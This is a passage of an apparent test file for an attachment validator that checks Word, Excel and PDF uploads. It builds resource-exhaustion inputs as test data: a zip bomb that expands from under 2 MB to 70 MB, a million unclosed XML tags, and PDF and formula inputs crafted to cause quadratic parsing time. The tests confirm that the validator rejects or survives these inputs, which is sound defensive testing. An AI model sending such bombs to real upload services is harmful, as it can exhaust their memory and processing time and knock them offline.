    createPdfWithText('1 0 obj << /Length 3 >>\nstream\n/JS\nendstream endobj'),
  ],
])('accepts a document with %s', (_what, name, content) => {
  expect(getProblem(name, content)).toBeUndefined();
});

test('refuses a document that unpacks to more than the memory', () => {
  const bomb = zipSync({ 'word/document.xml': new Uint8Array(70 * 1024 * 1024) });
  expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
  expect(getProblem('a.docx', Buffer.from(bomb))).toBe('attachment.invalid');
});

test('refuses unclosed elements before they use memory', () => {
  expect(getProblem('a.docx', createDocxWithBody('<a>'.repeat(1_000_000)))).toBe(
    'attachment.invalid',
  );
});

test.each([
  // With a cost that grows with the square of the length, each of these would take more than an hour.
  [
    'bars in a formula',
    'a.xlsx',
    createXlsxWithFormula('|'.repeat(2_000_000)),
    'attachment.invalid',
  ],
  [
    'fields',
    'a.docx',
    createDocxWithBody('<w:fldSimple w:instr="PAGE "/>'.repeat(50_000)),
    undefined,
  ],
  [
    'letters in formulas',
    'a.xlsx',
    createXlsxWithFormula(`${'a'.repeat(8000)}</f><f>`.repeat(200)),
    undefined,
  ],
  [
    'texts that do not end',
    'a.pdf',
    createPdfWithText('1 0 obj ('.repeat(200_000)),
    'attachment.invalid',
  ],
  [
    'comments that do not end',
    'a.pdf',
    createPdfWithText('1 0 obj %'.repeat(200_000)),
    'attachment.invalid',
  ],
  ['lists that do not end', 'a.pdf', createPdfWithText('1 0 obj ['.repeat(200_000)), undefined],
  ['references', 'a.pdf', createPdfWithObject(`<< /A [${'1 0 R '.repeat(200_000)}] >>`), undefined],
])(
  '%s that are written to be slow take no longer than their length',
  (_what, name, content, problem) => {
    expect(getProblem(name, content)).toBe(problem);
  },
);
